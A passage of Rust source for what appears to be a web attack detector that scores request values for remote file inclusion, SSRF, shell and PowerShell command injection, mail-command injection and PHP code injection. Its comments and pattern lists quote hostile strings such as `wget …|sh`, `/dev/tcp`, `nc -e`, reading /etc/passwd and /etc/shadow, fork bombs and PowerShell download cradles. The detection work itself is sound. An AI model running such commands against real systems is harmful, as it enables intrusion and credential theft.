        || matches!(scheme, "ftp" | "ftps") && off_site_host
    {
        // The application is made to fetch a resource from elsewhere.
        out.push((Class::Rfi, 0.6, "remote resource URL in parameter"));
    } else if matches!(scheme, "http" | "https") && off_site_host && {
        let auth = &rest[..rest.find(['/', '?', '#']).unwrap_or(rest.len())];
        // Credentials or a non-default port in an off-site URL: a way to
        // hide the real host (`http://site%2f@evil/`) or reach a service.
        auth.contains('@')
            || rest.contains("/@")
            || auth.rsplit_once(':').is_some_and(|(_, p)| {
                !p.is_empty() && p.bytes().all(|c| c.is_ascii_digit()) && p != "80" && p != "443"
            })
    } {
        out.push((Class::Rfi, 0.6, "off-site URL with credentials or port"));
    }
    if matches!(
        scheme,
        "gopher" | "dict" | "ldap" | "tftp" | "jar" | "netdoc" | "sftp"
    ) {
        out.push((Class::Ssrf, 0.85, "SSRF scheme"));
    } else if internal_host(host) && matches!(scheme, "http" | "https" | "ftp" | "ftps") {
        out.push((Class::Ssrf, 0.85, "URL to internal host"));
    }
    if matches!(scheme, "http" | "https" | "ftp" | "ftps") {
        let ip_host = host.parse::<std::net::IpAddr>().is_ok();
        let include_param = matches!(
            name,
            "include"
                | "inc"
                | "file"
                | "page"
                | "path"
                | "template"
                | "require"
                | "load"
                | "dir"
                | "document_root"
                | "root"
                | "folder"
                | "mod"
                | "module"
                | "conf"
                | "config"
                | "pg"
                | "style"
                | "pdf"
                | "doc"
                | "lang"
                | "language"
                | "site"
                | "show"
                | "nav"
                | "content"
                | "layout"
                | "cat"
                | "action"
                | "board"
                | "date"
                | "detail"
                | "download"
                | "prefix"
                | "read"
                | "view"
                | "home"
                | "mosconfig_absolute_path"
                | "phpbb_root_path"
                | "base_path"
                | "abspath"
        );
        let trailing =
            v.ends_with('?') || v.ends_with("?\0") || v.ends_with('\0') || v.contains('\0');
        let script = [".txt", ".php", ".inc", ".gif?", ".jpg?"]
            .iter()
            .any(|e| v.ends_with(e) || v.contains(&format!("{e}?")));
        let off_site = site.is_some_and(|s| !host.is_empty() && host != s.to_ascii_lowercase());
        if ip_host && !internal_host(host) {
            out.push((Class::Rfi, 0.85, "URL with IP address in parameter"));
        } else if trailing {
            out.push((Class::Rfi, 0.85, "URL with trailing ? or NUL"));
        } else if include_param && (script || off_site) {
            out.push((Class::Rfi, 0.8, "URL in include-like parameter"));
        } else if include_param || script && off_site {
            out.push((Class::Rfi, 0.55, "off-site URL in parameter"));
        }
    }
    out
}

static SHELL_FUNC: std::sync::LazyLock<Option<regex::Regex>> = std::sync::LazyLock::new(|| {
    regex::Regex::new(r"(?:^|[;&|\s])[\w.:-]{1,32}\s*\(\s*\)\s*\{").ok()
});

static WIN_FOR: std::sync::LazyLock<Option<regex::Regex>> = std::sync::LazyLock::new(|| {
    regex::Regex::new(
        r#"(?:^|[;&|(@\s])for(?:\s+/[dlrf](?:\s+(?:"[^"]*"|[a-z]:[^\s]*|[^%\s]+))?)*\s+%%?[^\s%]*\s+in\s*\(.*\)\s*do\b"#,
    )
    .ok()
});

static WIN_IF: std::sync::LazyLock<Option<regex::Regex>> = std::sync::LazyLock::new(|| {
    regex::Regex::new(
        r#"(?:^|[;&|(@])\s*if(?:\s*/i)?(?:\s+not)?\s+(?:(?:exist|defined)\s+\S+\s+\S|errorlevel\s+\d+\s+\S|cmdextversion\s+\d|\(\s*\S+\s+(?:equ|neq|lss|leq|gtr|geq)\s+\S+\s*\)\s+[@a-z]|(?:"[^"]*"|\([^()]*\)|[^\s=(][^\s=]*)\s*(?:={2,3}|\s(?:equ|neq|lss|leq|gtr|geq)\s)\s*(?:"[^"]*"|\([^()]*\)|[^\s=]+)(?:\s+[(@a-z.]|\s*$))"#,
    )
    .ok()
});

/// OS command injection on a decoded, lower-cased value.
pub fn rce(l: &str) -> Option<(f32, &'static str)> {
    if l.contains("() {") && (l.contains(";") || l.contains("}")) {
        return Some((0.95, "shellshock function definition"));
    }
    let f = shell_fold(l);
    if let Some(v) = shell_expansion(&f) {
        return Some(v);
    }
    if f.contains('\n')
        && let Some(v) = mail_command(&f)
    {
        return Some(v);
    }
    // A shell function definition (`f(){ f|f& };f`, `:(){ :|:& };:`): name, `()`, `{`, body, `}`.
    // (`function f() {` is JavaScript/PHP syntax: left to the XSS/PHP checks.)
    // The regexes below each need a byte or word that most values lack:
    // test for it first (a value is scanned by a regex only when it can match).
    if let Some(m) = f
        .contains('{')
        .then(|| SHELL_FUNC.as_ref().and_then(|r| r.find(&f)))
        .flatten()
        && f[m.end()..].contains('}')
        // Its body pipes, backgrounds or chains commands (a fork bomb, a
        // payload), not just `echo hello`.
        && f[m.end()..].contains(['|', '&', ';'])
        && !f[..m.start() + 1].trim_end().ends_with("function")
    {
        return Some((0.9, "shell function definition"));
    }
    // cmd.exe control flow: `for [/d|/r …|/l|/f "…"] %%x in (…) do …`,
    // `if [/i] [not] exist|defined|errorlevel …` and `if … ==|equ|neq|lss|gtr … command`.
    if f.contains("for") && WIN_FOR.as_ref().is_some_and(|r| r.is_match(&f)) {
        return Some((0.9, "cmd.exe for loop"));
    }
    if f.contains("if") && WIN_IF.as_ref().is_some_and(|r| r.is_match(&f)) {
        return Some((0.8, "cmd.exe if statement"));
    }
    if let Some(v) = brace_expansion(&f) {
        return Some(v);
    }
    if let Some(v) = glob_path(&f) {
        return Some(v);
    }
    // A variable that holds a shell, run with a command: `$SHELL -c id`, `${BASH} -c …`.
    for v in ["$shell", "${shell}", "$bash", "${bash}", "$0 -c"] {
        if let Some(i) = f.find(v) {
            let after = f[i + v.len()..].trim_start();
            if after.starts_with("-c") || v == "$0 -c" {
                return Some((0.85, "shell variable run with -c"));
            }
        }
    }
    // PowerShell: cmdlets and aliases that download or run code.
    if let Some(v) = powershell(&f) {
        return Some(v);
    }
    // Command after a separator: ; | || && ` $( newline
    let b = f.as_bytes();
    let seps: &[&str] = &[";", "|", "&", "`", "$(", "\n", "\r", "${", "<(", ">("];
    // Every separator starts with one of these bytes.
    let has_sep = f.bytes().any(|c| {
        matches!(
            c,
            b';' | b'|' | b'&' | b'`' | b'$' | b'\n' | b'\r' | b'<' | b'>'
        )
    });
    for sep in seps.iter().filter(|_| has_sep) {
        for (i, _) in f.match_indices(sep) {
            let mut rest = f[i + sep.len()..].trim_start_matches(|c: char| {
                c == '|' || c == '&' || c == ' ' || c == '\t' || c == '{' || c == '('
            });
            // `;/bin/cat`, `;/usr/bin/id`, `|/???/c?t`
            if rest.starts_with('/')
                && (rest.starts_with("/bin/")
                    || rest.starts_with("/usr/")
                    || rest.starts_with("/???")
                    || rest.starts_with("/sbin/")
                    || rest.starts_with("/?"))
            {
                return Some((0.9, "command path after separator"));
            }
            // `;.shell …`, `;\n.system …`: SQLite shell dot-commands that run
            // programs; `;. rm …`: the shell's `.` (source) builtin.
            if let Some(r) = rest.strip_prefix('.') {
                let r = r.trim_start_matches([' ', '\\', '"', '\'']);
                let w: String = r
                    .chars()
                    .take_while(|c| c.is_ascii_alphanumeric())
                    .collect();
                if matches!(
                    w.as_str(),
                    "shell" | "system" | "databases" | "tables" | "dump" | "import" | "load"
                ) || !w.is_empty() && r.len() > w.len() && is_strong_command(&w)
                {
                    return Some((0.8, "shell or SQLite dot-command after separator"));
                }
            }
            // Short unset variables before the command expand to nothing: `;$a cat x`, `|$u wget`.
            while let Some(r) = rest.strip_prefix('$') {
                let n = r
                    .bytes()
                    .take_while(|c| c.is_ascii_alphanumeric() || *c == b'_')
                    .count();
                if (1..=4).contains(&n) && r[n..].starts_with([' ', '\t']) {
                    rest = r[n..].trim_start();
                } else {
                    break;
                }
            }
            rest = rest.trim_start_matches(['"', '\'']);
            let word: String = rest
                .chars()
                .take_while(|c| {
                    c.is_ascii_alphanumeric()
                        || matches!(c, '.' | '_' | '-' | '/' | '\\' | '?' | '*')
                })
                .collect();
            if !word.is_empty()
                && (is_strong_command(&word)
                    || is_command(&word) && command_line_tail(&rest[word.len()..]))
            {
                let after = &rest[word.len()..];
                let args = after.is_empty()
                    || after.starts_with([
                        ' ', '\t', '+', '<', '>', '|', ';', '&', '`', ')', '$', '-', '"', '\'',
                        '\n', '}', '/', ',',
                    ]);
                // `a=1&id=2`: `&` followed by a parameter, not a command.
                let is_param = *sep == "&" && after.starts_with('=');
                if args
                    && !is_param
                    && !(i > 0
                        && *sep == "&"
                        && b.get(i - 1).is_some_and(|c| c.is_ascii_alphanumeric())
                        && after.is_empty())
                {
                    return Some((0.9, "command after shell separator"));
                }
            }
            if matches!(*sep, ";" | "|" | "`" | "$(" | "\n") && program_with_options(rest) {
                return Some((0.75, "program with options after shell separator"));
            }
        }
    }
    // Whole value is a command with shell-looking arguments (`cat /etc/passwd`, `wget http://…|sh`).
    let first: String = f
        .trim_start()
        .chars()
        .take_while(|c| !c.is_whitespace())
        .collect();
    // The first word spelled with quotes or backslashes the shell drops
    // (`'wh'oami`, `\ls`, `"w"get x`): only evasion writes a program name so.
    let raw_first = l
        .trim_start()
        .split(char::is_whitespace)
        .next()
        .unwrap_or("");
    // The program name: the first word up to a separator or quote.
    let word: String = first
        .chars()
        .take_while(|c| c.is_ascii_alphanumeric() || matches!(c, '.' | '_' | '-' | '/'))
        .collect();
    if raw_first != first
        && raw_first.contains(['\'', '"', '\\', '`', '$', '<', '>'])
        && is_strong_command(&word)
    {
        return Some((0.8, "obfuscated command name"));
    }
    // A program then a command separator (`whoami;…`, `id|…`, `uname&&…`).
    if is_strong_command(&word)
        && word.len() > 2
        && f.trim_start()[word.len()..].starts_with([';', '|', '`'])
    {
        return Some((0.75, "command line"));
    }
    if let Some(v) = variable_command(&f) {
        return Some(v);
    }
    // A program's path in a bin directory (`/bin/ab`, `usr/bin/visudo`).
    let t = f.trim();
    if let Some((dir, prog)) = t.rsplit_once('/')
        && (dir.ends_with("bin")
            && (dir == "bin" || dir.ends_with("/bin") || dir.ends_with("/sbin") || dir == "sbin"))
        && is_command(prog)
        && !t.contains(char::is_whitespace)
    {
        return Some((0.75, "program path"));
    }
    // A wrapper running a program: `time sh -c id`, `nice -n 5 nc …`, `env perl -e …`.
    if WRAPPERS.contains(&command_base(&first)) {
        let rest = f.trim_start()[first.len()..].trim_start();
        let next = rest
            .split_whitespace()
            .find(|w| !w.starts_with('-') && !w.bytes().all(|c| c.is_ascii_digit()));
        if next.is_some_and(|w| {
            let after = rest.split_once(w).map(|x| x.1).unwrap_or("");
            is_strong_command(w) || is_command(w) && command_line_tail(after)
        }) {
            return Some((0.8, "command run by a wrapper"));
        }
    }
    // A program of a subcommand family or with a version in its name
    // (`chef-shell`, `ansible-config dump`, `pip3 install x`), alone or with
    // plain arguments: such names are no words of prose.
    let fb = command_base(&first);
    if fb.len() > 3
        && (fb.contains('-') || unversioned(fb).is_some_and(|b| STRONG_SET.contains(b)))
        && fb.bytes().next().is_some_and(|c| c.is_ascii_alphabetic())
        && is_strong_command(&first)
        && f.split_whitespace().count() <= 6
    {
        return Some((0.7, "command line"));
    }
    if is_command(&first) && first.len() > 1 {
        let rest = f.trim_start()[first.len()..].trim_start();
        if rest.starts_with('-') && rest.len() > 1 && (rest.contains(' ') || rest.len() < 4)
            || rest.starts_with("--") && rest[2..].starts_with(|c: char| c.is_ascii_alphabetic())
            || is_strong_command(&first) && strong_command_args(rest)
            || rest.starts_with('/') && rest.len() > 1
            || rest.contains("http://")
                && (rest.contains('|') || rest.contains(';') || rest.contains("-o"))
            || rest.contains("/dev/tcp")
        {
            return Some((0.75, "command line"));
        }
    }
    if f.contains("/dev/tcp/")
        || f.contains("/bin/sh")
        || f.contains("/bin/bash")
        || f.contains("cmd.exe")
        || f.contains("cmd /c")
        || f.contains("powershell -")
        || f.contains("powershell.exe")
        || f.contains("nc -e")
    {
        return Some((0.85, "shell invocation"));
    }
    None
}

/// A shell variable assigned a program name and then run (`c=cat&&$c /x`,
/// `a=nc&&$a -nlvp 555`): `name=value` with a program as value, and `$name`
/// later at a command position (start, or after a separator or blank).
fn variable_command(f: &str) -> Option<(f32, &'static str)> {
    if !f.contains('$') || !f.contains('=') {
        return None;
    }
    let b = f.as_bytes();
    for (i, _) in f.match_indices('=') {
        let start = f[..i]
            .rfind(|c: char| !(c.is_ascii_alphanumeric() || c == '_'))
            .map_or(0, |p| p + 1);
        let name = &f[start..i];
        if name.is_empty() || name.len() > 16 || !name.as_bytes()[0].is_ascii_alphabetic() {
            continue;
        }
        if start > 0 && !matches!(b[start - 1], b';' | b'&' | b'|' | b' ' | b'\n') {
            continue;
        }
        let val: String = f[i + 1..]
            .chars()
            .take_while(|c| !matches!(c, ';' | '&' | '|' | ' ' | '\n'))
            .collect();
        let val = val.trim_matches(['\'', '"']);
        if !is_strong_command(val) {
            continue;
        }
        let var = format!("${name}");
        let later = &f[i..];
        if later.match_indices(&var).any(|(j, _)| {
            let before = later[..j].trim_end_matches([' ', '\t']);
            let after = later[j + var.len()..].chars().next();
            (before.is_empty() || before.ends_with([';', '&', '|', '\n', '`', '(']))
                && !after.is_some_and(|c| c.is_ascii_alphanumeric() || c == '_')
        }) {
            return Some((0.85, "program run through a shell variable"));
        }
    }
    None
}

/// Arguments that make a strong program's line a command line wherever it
/// stands: an option (`-m`, `--list`), a script/config file argument
/// (`site.yml`, `x.sh`), a URL, or another program (`time ifconfig`).
fn strong_command_args(rest: &str) -> bool {
    const SCRIPT_EXT: &[&str] = &[
        ".sh", ".py", ".pl", ".rb", ".yml", ".yaml", ".php", ".js", ".conf", ".cfg", ".jar",
        ".exe", ".bat", ".ps1", ".txt",
    ];
    rest.split_whitespace().any(|t| {
        t.contains("://")
            || is_strong_command(t)
            || t.strip_prefix('-')
                .map(|o| o.trim_start_matches('-'))
                .is_some_and(|o| o.starts_with(|c: char| c.is_ascii_alphabetic()))
            || t.len() > 3 && SCRIPT_EXT.iter().any(|e| t.ends_with(e))
    })
}

static SHELL_EXPANSION: std::sync::LazyLock<Option<regex::Regex>> = std::sync::LazyLock::new(
    || {
        regex::Regex::new(
            r#"\$\(\(|\$\[[^\]]{0,40}\]|\$\{#?[a-z_][a-z0-9_]{0,30}(?:[#%^,/]|:[-=+?]|:\d)|(?:^|[;&|\s])alias\s+(?:[-+][\w+]*\s+)*['"]?[^\s='"]{1,40}['"]?\s*="#,
        )
        .ok()
    },
);

/// Bash-only expansions and builtins in a folded, lower-cased value:
/// arithmetic `$((…))` / `$[…]`, parameter expansion with an operator
/// (`${x#…}`, `${path%/*}`, `${v:-d}`), an `alias name=` definition, and a
/// whole value that is a directory-stack (`~+`, `~-2`) or history (`!!`,
/// `!-1`) expansion.
fn shell_expansion(f: &str) -> Option<(f32, &'static str)> {
    let t = f.trim();
    let b = t.as_bytes();
    if b.len() >= 3
        && b[0] == b'~'
        && matches!(b[1], b'+' | b'-')
        && b[2..].iter().all(u8::is_ascii_digit)
    {
        return Some((0.6, "shell directory-stack expansion"));
    }
    if t == "!!"
        || t.len() >= 2
            && t.starts_with('!')
            && t.split('!').skip(1).all(|e| {
                let e = e.strip_prefix('-').unwrap_or(e);
                !e.is_empty() && e.bytes().all(|c| c.is_ascii_digit())
            })
    {
        return Some((0.6, "shell history expansion"));
    }
    if f.contains(['$', '='])
        && let Some(m) = SHELL_EXPANSION.as_ref().and_then(|r| r.find(f))
    {
        let rule = if m.as_str().contains("alias") {
            "shell alias definition"
        } else {
            "shell parameter or arithmetic expansion"
        };
        return Some((0.75, rule));
    }
    None
}

/// Mail protocol commands on a line of their own after a line break (CRLF
/// injection into an SMTP, POP3 or IMAP session an application opens): the
/// verbs of RFC 5321, RFC 1939 and RFC 9051 with their argument shapes.
fn mail_command(f: &str) -> Option<(f32, &'static str)> {
    const IMAP: &[&str] = &[
        "login",
        "authenticate",
        "select",
        "examine",
        "create",
        "delete",
        "rename",
        "subscribe",
        "unsubscribe",
        "list",
        "lsub",
        "status",
        "append",
        "check",
        "close",
        "expunge",
        "search",
        "fetch",
        "store",
        "copy",
        "move",
        "uid",
        "noop",
        "logout",
        "capability",
        "starttls",
        "idle",
        "namespace",
        "enable",
        "unselect",
    ];
    let num =
        |w: Option<&str>| w.is_some_and(|w| !w.is_empty() && w.bytes().all(|c| c.is_ascii_digit()));
    for line in f.split('\n').skip(1) {
        let line = line.trim_matches(['\r', ' ', '\t']);
        let mut w = line.split_whitespace();
        let Some(verb) = w.next() else {
            continue;
        };
        let args: Vec<&str> = w.collect();
        let smtp = line.starts_with("mail from:")
            || line.starts_with("rcpt to:")
            || matches!(verb, "ehlo" | "helo") && args.len() == 1
            || matches!(verb, "data" | "quit" | "rset" | "starttls") && args.is_empty()
            || matches!(verb, "vrfy" | "expn") && args.len() == 1
            || verb == "auth" && auth_args(&args);
        let pop = matches!(verb, "retr" | "dele" | "list")
            && args.len() == 1
            && num(args.first().copied())
            || verb == "top" && args.len() == 2 && args.iter().all(|a| num(Some(a)))
            || verb == "apop"
                && args.len() == 2
                && args[1].len() == 32
                && args[1].bytes().all(|c| c.is_ascii_hexdigit());
        let imap = verb.len() <= 8
            && verb.bytes().any(|c| c.is_ascii_digit())
            && verb.bytes().all(|c| c.is_ascii_alphanumeric())
            && args.first().is_some_and(|c| IMAP.contains(c));
        if smtp || pop || imap {
            return Some((0.8, "mail protocol command after line break"));
        }
    }
    None
}

/// `AUTH` arguments: a SASL mechanism name, or a user and a base64 token.
fn auth_args(args: &[&str]) -> bool {
    const MECHS: &[&str] = &[
        "plain",
        "login",
        "cram-md5",
        "digest-md5",
        "xoauth2",
        "oauthbearer",
        "gssapi",
        "ntlm",
        "scram-sha-1",
        "scram-sha-256",
        "external",
        "anonymous",
    ];
    match args {
        [m] | [m, _] if MECHS.contains(m) => true,
        [_, tok] => {
            tok.len() >= 12
                && tok
                    .bytes()
                    .all(|c| c.is_ascii_alphanumeric() || matches!(c, b'+' | b'/' | b'='))
        }
        _ => false,
    }
}

/// Bash brace expansion that spells a command: `{cat,/etc/passwd}` runs
/// `cat /etc/passwd`; `c{a,oun}t` and `{l,-lh}s` build command words from
/// pieces. Each `{…,…}` group (no spaces, at most [`MAX_BRACE_ITEMS`] items)
/// is expanded with the word it is glued to, and a strong command word (or
/// a known command as the group's first item, followed by an argument)
/// counts.
fn brace_expansion(f: &str) -> Option<(f32, &'static str)> {
    const MAX_BRACE_ITEMS: usize = 8;
    let mut from = 0;
    while let Some(o) = f[from..].find('{').map(|o| o + from) {
        from = o + 1;
        let Some(c) = f[o..].find('}').map(|c| c + o) else {
            break;
        };
        let inner_raw = &f[o + 1..c];
        // ANSI-C and locale quoting of an item (`$'whoami'`, `$"id"`) is the item.
        let unq = inner_raw
            .replace("$'", "")
            .replace("$\"", "")
            .replace(['\'', '"'], "");
        let inner = if inner_raw.contains("$'") || inner_raw.contains("$\"") {
            unq.as_str()
        } else {
            inner_raw
        };
        if inner.contains(',')
            && inner.split(',').any(|it| {
                it.starts_with('/')
                    && it.contains(['?', '*'])
                    && GLOB_TARGETS
                        .iter()
                        .any(|t| glob_match(it.as_bytes(), t.as_bytes()))
            })
        {
            return Some((0.85, "glob path to shell or system file"));
        }
        if !inner.contains(',') || inner.contains([' ', '{', '$', '"', ':']) {
            continue;
        }
        let items: Vec<&str> = inner.split(',').collect();
        if items.len() > MAX_BRACE_ITEMS {
            continue;
        }
        let is_word = |ch: char| ch.is_ascii_alphanumeric() || ch == '_' || ch == '-';
        let pre_start = f[..o]
            .char_indices()
            .rev()
            .find(|(_, ch)| !is_word(*ch))
            .map(|(i, ch)| i + ch.len_utf8())
            .unwrap_or(0);
        let pre = &f[pre_start..o];
        let suf_end = f[c + 1..]
            .char_indices()
            .find(|(_, ch)| !is_word(*ch))
            .map(|(i, _)| c + 1 + i)
            .unwrap_or(f.len());
        let suf = &f[c + 1..suf_end];
        // `{cat,/etc/passwd}`: the first item is the program, the rest its arguments.
        // Empty items expand to nothing: `{,cd,/etc,}` is `cd /etc`.
        let items: Vec<&str> = items.into_iter().filter(|a| !a.is_empty()).collect();
        if pre.is_empty()
            && items.len() >= 2
            && (is_strong_command(items[0]) && items[1..].iter().any(|a| !a.is_empty())
                || is_command(items[0]) && items[1..].iter().any(|a| a.starts_with(['-', '/'])))
        {
            return Some((0.85, "brace expansion command"));
        }
        for it in &items {
            let word = format!("{pre}{it}{suf}");
            if word.len() > 1 && is_strong_command(&word) && !it.is_empty() {
                return Some((0.8, "brace expansion command"));
            }
        }
    }
    None
}

/// Paths that a shell glob (`?`, `*`, `[a-z]`, `[!q]`) turns into a shell
/// or a system file: `/usr/[a-z]in/bash`, `/etc/[!q]asswd`, `/???/c?t`.
/// Each glob path in the value is matched against [`GLOB_TARGETS`].
fn glob_path(f: &str) -> Option<(f32, &'static str)> {
    if !f.contains(['?', '*', '[']) || !f.contains('/') {
        return None;
    }
    for tok in f.split([
        ' ', '\t', ';', '|', '&', '\'', '"', '(', ')', '`', '<', '>', '=',
    ]) {
        if !tok.starts_with('/') || !tok.contains(['?', '*', '[']) || tok.len() > 64 {
            continue;
        }
        if GLOB_TARGETS
            .iter()
            .any(|t| glob_match(tok.as_bytes(), t.as_bytes()))
        {
            return Some((0.85, "glob path to shell or system file"));
        }
    }
    None
}

/// What globbed paths in attacks resolve to (shells, fetchers, account files).
const GLOB_TARGETS: &[&str] = &[
    "/bin/sh",
    "/bin/bash",
    "/bin/dash",
    "/bin/cat",
    "/bin/nc",
    "/usr/bin/bash",
    "/usr/bin/id",
    "/usr/bin/whoami",
    "/usr/bin/wget",
    "/usr/bin/curl",
    "/usr/bin/python",
    "/usr/bin/perl",
    "/usr/bin/nc",
    "/usr/bin/cat",
    "/usr/sbin/bash",
    "/etc/passwd",
    "/etc/shadow",
    "/etc/hosts",
];

/// Shell-glob match of `pat` (`?`, `*`, `[…]`, `[!…]`, `[^…]` with ranges)
/// against the whole of `text`. Iterative with one backtrack point for `*`.
fn glob_match(pat: &[u8], text: &[u8]) -> bool {
    let (mut p, mut t) = (0, 0);
    let mut star: Option<(usize, usize)> = None;
    while t < text.len() {
        let step = match pat.get(p) {
            Some(b'*') => {
                star = Some((p, t));
                p += 1;
                continue;
            }
            Some(b'?') => Some(p + 1),
            Some(b'[') => match class_match(&pat[p..], text[t]) {
                Some((ok, len)) => ok.then_some(p + len),
                None => (text[t] == b'[').then_some(p + 1),
            },
            Some(c) => (*c == text[t]).then_some(p + 1),
            None => None,
        };
        match step {
            Some(np) => {
                p = np;
                t += 1;
            }
            None => match star {
                Some((sp, st)) => {
                    p = sp + 1;
                    t = st + 1;
                    star = Some((sp, st + 1));
                }
                None => return false,
            },
        }
    }
    pat[p..].iter().all(|c| *c == b'*')
}

/// A `[…]` class at the start of `pat`: (whether `c` matches, the class's length).
fn class_match(pat: &[u8], c: u8) -> Option<(bool, usize)> {
    let end = pat.iter().skip(2).position(|x| *x == b']')? + 2;
    let body = &pat[1..end];
    let (neg, body) = match body.first() {
        Some(b'!' | b'^') => (true, &body[1..]),
        _ => (false, body),
    };
    let mut hit = false;
    let mut i = 0;
    while i < body.len() {
        if body.get(i + 1) == Some(&b'-') && i + 2 < body.len() {
            hit |= (body[i]..=body[i + 2]).contains(&c);
            i += 3;
        } else {
            hit |= body[i] == c;
            i += 1;
        }
    }
    Some((hit != neg, end + 1))
}

/// PowerShell cmdlets and aliases that fetch or run code (`iex (iwr …)`,
/// `Invoke-Expression`, `-EncodedCommand`), as words of a lower-cased value.
fn powershell(f: &str) -> Option<(f32, &'static str)> {
    const CMDLETS: &[&str] = &[
        "invoke-expression",
        "invoke-webrequest",
        "invoke-restmethod",
        "invoke-wmimethod",
        "invoke-command",
        "invoke-item",
        "start-process",
        "start-bitstransfer",
        "new-object net.webclient",
        "new-object system.net.webclient",
        "downloadstring(",
        "downloadfile(",
        "frombase64string(",
        "set-mppreference",
        "add-mppreference",
        "get-wmiobject",
        "-encodedcommand",
        "-executionpolicy bypass",
    ];
    if CMDLETS.iter().any(|c| f.contains(c)) {
        return Some((0.85, "PowerShell cmdlet"));
    }
    // Short aliases only as a command word followed by a command-line shape:
    // `;iex (…)`, `iwr http://…`, `iwmi -class …`.
    let mut from = 0;
    while let Some(i) = f[from..].find(['i', 's', 'p']).map(|i| i + from) {
        let word_start = i == 0 || f[..i].ends_with([';', '|', '&', '(', ' ', '\n', '`']);
        let tail = &f[i..];
        from = i + 1;
        if word_start {
            for a in ["iex", "iwr", "irm", "iwmi", "saps", "pwsh"] {
                if let Some(after) = tail.strip_prefix(a)
                    && [" (", " http", " -", " c:", " $"]
                        .iter()
                        .any(|p| after.starts_with(p))
                {
                    return Some((0.8, "PowerShell alias"));
                }
            }
        }
    }
    None
}

const PHP_FUNCS: &[&str] = &[
    "eval",
    "assert",
    "system",
    "passthru",
    "shell_exec",
    "exec",
    "popen",
    "proc_open",
    "base64_decode",
    "gzinflate",
    "gzuncompress",
    "str_rot13",
    "file_get_contents",
    "file_put_contents",
    "fopen",
    "fwrite",
    "fputs",
    "include",
    "include_once",
    "require",
    "require_once",
    "preg_replace",
    "create_function",
    "call_user_func",
    "call_user_func_array",
    "phpinfo",
    "chr",
    "pcntl_exec",
    "move_uploaded_file",
    "unserialize",
    "readfile",
    "show_source",
    "highlight_file",
    "var_dump",
    "print_r",
    "array_map",
    "array_filter",
    "usort",
    "uasort",
    "ob_start",
    "posix_getpwuid",
    "symlink",
    "ini_set",
    "set_time_limit",
    "getenv",
    "putenv",
    "curl_exec",
    "fsockopen",
    "pfsockopen",
    "mail",
    "dl",
    "scandir",
    "glob",
    "opendir",
    "unlink",
    "rmdir",
    "mkdir",
    "copy",
    "rename",
    "chmod",
    "touch",
    "file",
    "parse_str",
    "extract",
    "mb_ereg_replace",
    "iconv",
    "hex2bin",
    "strrev",
    "gzdecode",
    "md5",
    "die",
    "exit",
    // Decoders that unpack hidden payloads, execution and reconnaissance
    // helpers seen in webshells and PHP exploit chains.
    "bzdecompress",
    "zlib_decode",
    "convert_uudecode",
    "curl_init",
    "stream_socket_client",
    "socket_create",
    "get_defined_functions",
    "get_defined_vars",
    "get_defined_constants",
    "get_cfg_var",
    "ini_get_all",
    "php_uname",
    "posix_getuid",
    "posix_geteuid",
    "posix_getegid",
    "posix_getgid",
    "posix_uname",
    "posix_kill",
    "posix_setuid",
    "proc_nice",
    "proc_terminate",
    "escapeshellcmd",
    "register_shutdown_function",
    "register_tick_function",
    "forward_static_call",
    "array_walk",
    "apache_setenv",
    "mb_send_mail",
    "imap_open",
    "error_log",
    "file_exists",
    "is_writable",
    "fputcsv",
    "ob_get_contents",
    "gethostbyname",
    "disk_free_space",
    "readlink",
    "chown",
    "lchown",
    "tmpfile",
    "tempnam",
];

static PHP_VAR_CALL: std::sync::LazyLock<Option<regex::Regex>> = std::sync::LazyLock::new(|| {
    regex::Regex::new(
        r#"(?:^|[^\w$])@?\$+[a-z_][a-z0-9_]{0,30}\s*(?:(?:\[[^\]]{0,40}\]+|\{[^}]{1,40}\})\s*)*\(\s*(?:\d|['"$)])"#,
    )
    .ok()
});

static PHP_DYN_CALL: std::sync::LazyLock<Option<regex::Regex>> = std::sync::LazyLock::new(|| {
    regex::Regex::new(r#"\(\s*(?:\(\s*string\s*\)\s*)?["']?[a-z_][a-z0-9_]*["']?(?:\s*\.\s*\(?\s*["']?[a-z0-9_]+["']?\s*\)?)*\s*\)\s*\(\s*["'$]"#).ok()
});

static PHP_BRACED_CALL: std::sync::LazyLock<Option<regex::Regex>> =
    std::sync::LazyLock::new(|| regex::Regex::new(r"\$\s*\{[^{}]{1,40}\}\s*\(").ok());

static PHP_LITERAL_CALL: std::sync::LazyLock<Option<regex::Regex>> = std::sync::LazyLock::new(
    || {
        regex::Regex::new(
            r#"["'(\[]\s*["']?(system|exec|passthru|shell_exec|popen|proc_open|pcntl_exec|assert|create_function|call_user_func|phpinfo)["']?\s*(?:[)\]}"']|\[\s*\d+\s*\]|\{\s*\d+\s*\}|\s)*\(\s*[^()]{0,60}\)"#,
        )
        .ok()
    },
);

/// See the call site in [`php`]: string concatenation (`"sys"."tem"`) and
/// `(string)` casts folded first.
fn php_literal_call(l: &str) -> Option<(f32, &'static str)> {
    if !l.contains(['"', '\'', '[', '(']) || !l.contains(')') {
        return None;
    }
    let mut f = l.replace("(string)", "").replace("( string )", "");
    for q in ['"', '\''] {
        for sep in [".", " .", ". ", " . "] {
            f = f.replace(&format!("{q}{sep}{q}"), "");
        }
    }
    let m = PHP_LITERAL_CALL.as_ref()?.captures(&f)?;
    // The literal is code, not prose (`the "system" (as …)`): its quote,
    // bracket or paren closes right after the name.
    let (name_start, name_end) = (m.get(1)?.start(), m.get(1)?.end());
    let after = &f[name_end..];
    let quoted = f[..name_start].ends_with(['"', '\'']);
    // A quoted name is called with no blank before `(` (`"system"(`); a
    // bracketed one may have blanks (`[ system ][ 0 ]( ls )`).
    let ok = if quoted {
        after.get(1..).is_some_and(|a| a.starts_with('('))
            || after
                .get(1..)
                .is_some_and(|a| a.starts_with(')') || a.starts_with(']'))
    } else {
        after.trim_start().starts_with([')', ']'])
    };
    ok.then_some((0.8, "PHP function name called as a literal"))
}

static PHP_VARVAR: std::sync::LazyLock<Option<regex::Regex>> = std::sync::LazyLock::new(|| {
    regex::Regex::new(
        r#"\$\s*\{\s*(?:['"][^'"]*['"]\s*(?:\.\s*['"][^'"]*['"]\s*)*|\$[a-z_][a-z0-9_]*\s*)\}"#,
    )
    .ok()
});

/// PHP / code injection on a decoded, lower-cased value.
pub fn php(l: &str) -> Option<(f32, &'static str)> {
    // `<? … ?>` unless it is an XML declaration or processing instruction (`<?xml …?>`).
    let pi = l.contains("?>")
        && l.match_indices("<?")
            .any(|(i, _)| !l[i + 2..].starts_with("xml"));
    if l.contains("<?php") || l.contains("<?=") || pi {
        return Some((0.95, "PHP open tag"));
    }
    // `<?xml` that is no XML declaration (`<?xml version=…`) nor a
